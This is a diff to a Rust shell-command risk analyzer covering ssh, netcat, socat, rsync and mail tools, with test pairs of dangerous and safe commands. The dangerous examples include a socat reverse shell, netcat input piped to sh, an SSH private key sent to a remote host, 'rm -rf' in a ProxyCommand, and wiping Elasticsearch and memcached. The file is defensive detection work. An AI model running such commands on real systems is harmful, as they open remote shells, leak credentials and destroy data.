@@ -8,7 +8,7 @@ use super::options::{Grammar, Options, gnu, leading};
 use super::{Program, plain, prints, runs, shells};
 use crate::eval::{Call, Extent, Writing};
 use crate::finding::{Effect, TargetClass, Verdict};
-use crate::text::{self, HOLE, PLAIN, REMOTE, SECRET};
+use crate::text::{HOLE, PLAIN, REMOTE, SECRET};
 
 pub(super) const PROGRAMS: &[Program] = &[
     runs(&["ssh", "slogin", "autossh", "dbclient", "plink"], ssh),
@@ -19,7 +19,7 @@ pub(super) const PROGRAMS: &[Program] = &[
     plain(&["rsync"], rsync),
     plain(&["ssh-copy-id"], copy_id),
     prints(&["ssh-keyscan"], keyscan),
-    prints(&["nc", "ncat", "netcat"], netcat),
+    prints(&["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "nc6"], netcat),
     prints(&["socat"], socat),
     prints(&["telnet", "websocat"], telnet),
     plain(&["mail", "mailx", "mutt", "neomutt", "sendmail", "swaks", "msmtp", "s-nail"], mail),
@@ -70,14 +70,15 @@ const SSH: Grammar = leading("BbcDEeFIiJLlmOoPpQRSWw", "");
 
 /// `ssh [options] host [options] [words of a script]`
 fn ssh(call: &mut Call<'_, '_>) {
-    let mut options = SSH.read(call.arguments());
+    let grammar = if call.name == "autossh" { leading("BbcDEeFIiJLlMmOoPpQRSWw", "") } else { SSH };
+    let mut options = grammar.read(call.arguments());
     if options.operands.is_empty() && options.has("V Q") {
         return;
     }
     let mut words = std::mem::take(&mut options.operands);
     let host = if words.is_empty() { String::new() } else { words.remove(0) };
     if words.first().is_some_and(|word| word.starts_with('-')) {
-        let more = SSH.read(&words);
+        let more = grammar.read(&words);
         words = more.operands;
         options.options.extend(more.options);
     }
@@ -110,7 +111,8 @@ fn elsewhere(call: &mut Call<'_, '_>, words: &[String]) {
 
 /// `mosh [options] host [--] program …`
 fn mosh(call: &mut Call<'_, '_>) {
-    let options = leading("pc", "client= server= predict= family= port= ssh= bind-server= no-init local help version").read(call.arguments());
+    let options = leading("pc", "client= server= predict= family= port= ssh= bind-server= no-init local help version")
+        .read(call.arguments());
     if options.asks_only() {
         return;
     }
@@ -125,7 +127,11 @@ fn mosh(call: &mut Call<'_, '_>) {
 
 /// Programs that run one script on many machines.
 fn many(call: &mut Call<'_, '_>) {
-    let options = leading("wxlfRgGhHpeotOIc", "hosts= user= par= outdir= errdir= timeout= options= host= extra-args= help version").read(call.arguments());
+    let options = leading(
+        "wxlfRgGhHpeotOIc",
+        "hosts= user= par= outdir= errdir= timeout= options= host= extra-args= help version",
+    )
+    .read(call.arguments());
     if options.asks_only() {
         return;
     }
@@ -249,7 +255,11 @@ fn rsync(call: &mut Call<'_, '_>) {
             }
             Some((_, path)) => {
                 // A path on the other side begins in the home directory there.
-                let path = if path.starts_with(['/', '~']) { path.replacen('~', &call.machine.world.home.clone(), 1) } else { format!("{}/{path}", call.machine.world.home) };
+                let path = if path.starts_with(['/', '~']) {
+                    path.replacen('~', &call.machine.world.home.clone(), 1)
+                } else {
+                    format!("{}/{path}", call.machine.world.home)
+                };
                 call.delete(&path, Extent::Bulk);
             }
             None => call.delete(target, Extent::Bulk),
@@ -315,7 +325,9 @@ fn netcat(call: &mut Call<'_, '_>) {
     if let Some(script) = options.value("lua-exec").map(str::to_owned) {
         call.asks(Effect::CannotTell, &script, "connects a script that cannot be read here to the network");
     }
-    for file in options.values("o output x hex-dump").filter(|file| !file.contains(':')).map(str::to_owned).collect::<Vec<_>>() {
+    for file in
+        options.values("o output x hex-dump").filter(|file| !file.contains(':')).map(str::to_owned).collect::<Vec<_>>()
+    {
         call.write(&file, Writing::Edit);
     }
     if let Some(input) = call.input() {
@@ -366,9 +378,22 @@ fn end(word: &str) -> End {
             End::Program(rest[..end.map_or(rest.len(), |(at, _)| at)].to_owned())
         }
         "FILE" | "OPEN" | "GOPEN" | "CREATE" | "CREAT" => End::File(first(rest)),
-        kind if ["TCP", "UDP", "OPENSSL", "SSL", "SOCKS", "PROXY", "SCTP", "VSOCK", "UNIX", "ABSTRACT", "WEBSOCKET", "DTLS"]
-            .iter()
-            .any(|name| kind.starts_with(name)) =>
+        kind if [
+            "TCP",
+            "UDP",
+            "OPENSSL",
+            "SSL",
+            "SOCKS",
+            "PROXY",
+            "SCTP",
+            "VSOCK",
+            "UNIX",
+            "ABSTRACT",
+            "WEBSOCKET",
+            "DTLS",
+        ]
+        .iter()
+        .any(|name| kind.starts_with(name)) =>
         {
             End::Net(first(rest))
         }
@@ -445,7 +470,8 @@ fn mail(call: &mut Call<'_, '_>) {
     ));
     let to = options.operands.last().cloned().unwrap_or_default();
     // `mutt -a file file -- address`
-    let attached: Vec<String> = options.values("a attach A i").map(str::to_owned).chain(options.operands.clone()).collect();
+    let attached: Vec<String> =
+        options.values("a attach A i").map(str::to_owned).chain(options.operands.clone()).collect();
     for file in attached {
         let file = file.trim_start_matches('@');
         if !file.contains('@') {
@@ -507,7 +533,10 @@ mod tests {
     fn pairs() {
         for (dangerous, safe) in [
             ("ssh -o 'ProxyCommand rm -rf data' h ls", "ssh -o 'ProxyCommand nc %h %p' h ls"),
-            ("ssh -oPermitLocalCommand=yes -oLocalCommand=./evil h", "ssh -oPermitLocalCommand=no -oLocalCommand=./evil h"),
+            (
+                "ssh -oPermitLocalCommand=yes -oLocalCommand=./evil h",
+                "ssh -oPermitLocalCommand=no -oLocalCommand=./evil h",
+            ),
             ("ssh -F /tmp/c h ls", "ssh -F ~/.ssh/config h ls"),
             ("ssh -I ./evil.so h ls", "ssh -i ~/.ssh/id_ed25519 h ls"),
             ("ssh h 'cat > k' < ~/.ssh/id_rsa", "ssh h 'cat > k' < a.txt"),
@@ -532,7 +561,10 @@ mod tests {
             ("nc -l 1 | sh", "nc -l 1 | wc"),
             ("nc -l 1 > i.sh; sh i.sh", "nc -l 1 > i.sh"),
             ("printf 'flush_all\\r\\n' | nc localhost 11211", "printf 'stats\\r\\n' | nc localhost 11211"),
-            ("printf 'DELETE /_all HTTP/1.1\\r\\n' | nc localhost:9200", "printf 'GET /_all HTTP/1.1\\r\\n' | nc localhost:9200"),
+            (
+                "printf 'DELETE /_all HTTP/1.1\\r\\n' | nc localhost:9200",
+                "printf 'GET /_all HTTP/1.1\\r\\n' | nc localhost:9200",
+            ),
             ("socat TCP:h:1 EXEC:'bash -li',pty", "socat TCP:h:1 EXEC:cat"),
             ("socat TCP-LISTEN:1 SYSTEM:sh", "socat TCP-LISTEN:1 TCP:h:2"),
             ("socat TCP-LISTEN:1 UNIX-CONNECT:/var/run/docker.sock", "socat - UNIX-CONNECT:/tmp/x.sock"),
